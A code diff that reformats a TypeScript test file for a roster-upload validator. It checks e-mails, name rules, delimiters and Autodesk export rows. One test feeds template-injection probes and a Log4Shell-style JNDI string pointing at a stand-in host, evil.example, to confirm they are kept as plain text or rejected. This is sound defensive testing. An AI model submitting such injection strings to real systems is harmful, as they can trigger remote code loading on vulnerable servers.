@@ -2,7 +2,18 @@ import { describe, expect, it } from 'vitest';
 import { recogniseHeaders, type HeaderMap } from '../../src/roster/headers.ts';
 import { validateRow } from '../../src/roster/validate-row.ts';
 
-const HEADER = ['First Name', 'Last Name', 'Email', 'Manager', 'Language', 'Time Zone', 'Department', 'Products', 'Role', 'Login'];
+const HEADER = [
+  'First Name',
+  'Last Name',
+  'Email',
+  'Manager',
+  'Language',
+  'Time Zone',
+  'Department',
+  'Products',
+  'Role',
+  'Login',
+];
 const header = (cells = HEADER): HeaderMap => {
   const r = recogniseHeaders(cells);
   if (!r.ok) throw new Error(r.reason);
@@ -11,7 +22,18 @@ const header = (cells = HEADER): HeaderMap => {
 const row = (fields: string[], map = header(), delimiter: ',' | ';' | '\t' = ',') =>
   validateRow({ line: 7, endLine: 7, fields }, map, delimiter);
 const full = (over: Partial<Record<number, string>> = {}) => {
-  const f = ['Ann', 'Lee', 'Ann.Lee@Example.org', 'boss@example.org', 'fr-BE', 'Europe/Brussels', 'Design', 'AutoCAD;Revit', 'manager', 'ALEE'];
+  const f = [
+    'Ann',
+    'Lee',
+    'Ann.Lee@Example.org',
+    'boss@example.org',
+    'fr-BE',
+    'Europe/Brussels',
+    'Design',
+    'AutoCAD;Revit',
+    'manager',
+    'ALEE',
+  ];
   for (const [i, v] of Object.entries(over)) f[Number(i)] = v as string;
   return f;
 };
@@ -42,12 +64,23 @@ describe('validateRow', () => {
     const r = row([' Ann ', ' Lee ', ' ann@example.org ', '', '', '', '', '', '', '']);
     expect(r).toEqual({
       ok: true,
-      row: { line: 7, id: 'ann@example.org', email: 'ann@example.org', firstName: 'Ann', lastName: 'Lee', roles: [], products: [], logins: [] },
+      row: {
+        line: 7,
+        id: 'ann@example.org',
+        email: 'ann@example.org',
+        firstName: 'Ann',
+        lastName: 'Lee',
+        roles: [],
+        products: [],
+        logins: [],
+      },
     });
   });
 
   it('rejects bad e-mails and bad manager e-mails', () => {
-    expect(reason(row(full({ 2: 'ann.lee@@example.org' })))).toBe('"ann.lee@@example.org" is not a valid e-mail address');
+    expect(reason(row(full({ 2: 'ann.lee@@example.org' })))).toBe(
+      '"ann.lee@@example.org" is not a valid e-mail address',
+    );
     expect(reason(row(full({ 2: '' })))).toBe('e-mail is empty');
     expect(reason(row(full({ 3: 'Jane Boss' })))).toBe('manager "Jane Boss" is not an e-mail address');
   });
@@ -59,7 +92,9 @@ describe('validateRow', () => {
 
   it("applies Autodesk's name rules to first and last names", () => {
     expect(reason(row(full({ 0: 'Sysadmin' })))).toBe('first name contains "admin", which Autodesk Account rejects');
-    expect(reason(row(full({ 1: 'Lee (Support)' })))).toBe('last name contains "support", which Autodesk Account rejects');
+    expect(reason(row(full({ 1: 'Lee (Support)' })))).toBe(
+      'last name contains "support", which Autodesk Account rejects',
+    );
     expect(reason(row(full({ 1: '50%' })))).toBe('last name contains "%", which Autodesk Account rejects');
     expect(reason(row(full({ 1: 'x'.repeat(101) })))).toBe('last name is longer than 100 characters');
     expect(reason(row(full({ 0: '' })))).toBe('first name is empty');
@@ -82,8 +117,14 @@ describe('validateRow', () => {
 
   it('keeps template expressions as plain text', () => {
     const r = row(full({ 0: '${user.name}', 1: '{{lastName}}', 6: '#{7*7}' }));
-    expect(r.ok && [r.row.firstName, r.row.lastName, r.row.department]).toEqual(['${user.name}', '{{lastName}}', '#{7*7}']);
-    expect(reason(row(full({ 0: '${jndi:ldap://evil.example/a}' })))).toBe('first name contains ":", which Autodesk Account rejects');
+    expect(r.ok && [r.row.firstName, r.row.lastName, r.row.department]).toEqual([
+      '${user.name}',
+      '{{lastName}}',
+      '#{7*7}',
+    ]);
+    expect(reason(row(full({ 0: '${jndi:ldap://evil.example/a}' })))).toBe(
+      'first name contains ":", which Autodesk Account rejects',
+    );
   });
 
   it('accepts line breaks inside the products cell as separators', () => {
@@ -99,18 +140,32 @@ describe('validateRow', () => {
 
   it('suggests the delimiter a short row seems to use', () => {
     const map = header(['First Name', 'Last Name', 'Email']);
-    expect(reason(row(['Ann,Lee,ann@x.org'], map, ';'))).toBe('1 field where the header has 3: does this row use "," instead of ";"?');
-    expect(reason(row(['Ann\tLee\tann@x.org'], map, ','))).toBe('1 field where the header has 3: does this row use tabs instead of ","?');
+    expect(reason(row(['Ann,Lee,ann@x.org'], map, ';'))).toBe(
+      '1 field where the header has 3: does this row use "," instead of ";"?',
+    );
+    expect(reason(row(['Ann\tLee\tann@x.org'], map, ','))).toBe(
+      '1 field where the header has 3: does this row use tabs instead of ","?',
+    );
     expect(reason(row(['Ann', 'Lee'], map, ','))).toBe('2 fields where the header has 3');
   });
 
   it('reads an Autodesk export row: product from product_name, hashed names left unknown', () => {
     const map = header(['email', 'first_name', 'last_name', 'offering_name', 'product_name', 'role']);
     const hash = '3bc51062973c458d5a6f2d8d64a023246354ad7e064b1e4e009ec8a0699a3043';
-    const r = row(['ann@example.com', hash, hash, 'AutoCAD - including specialized toolsets', 'AutoCAD', 'Primary Admin'], map);
+    const r = row(
+      ['ann@example.com', hash, hash, 'AutoCAD - including specialized toolsets', 'AutoCAD', 'Primary Admin'],
+      map,
+    );
     expect(r).toEqual({
       ok: true,
-      row: { line: 7, id: 'ann@example.com', email: 'ann@example.com', roles: ['admin'], products: ['AutoCAD'], logins: [] },
+      row: {
+        line: 7,
+        id: 'ann@example.com',
+        email: 'ann@example.com',
+        roles: ['admin'],
+        products: ['AutoCAD'],
+        logins: [],
+      },
     });
     const offeringOnly = row(['ann@example.com', 'Ann', 'Lee', 'Revit', '', 'User'], map);
     expect(offeringOnly.ok && offeringOnly.row.products).toEqual(['Revit']);
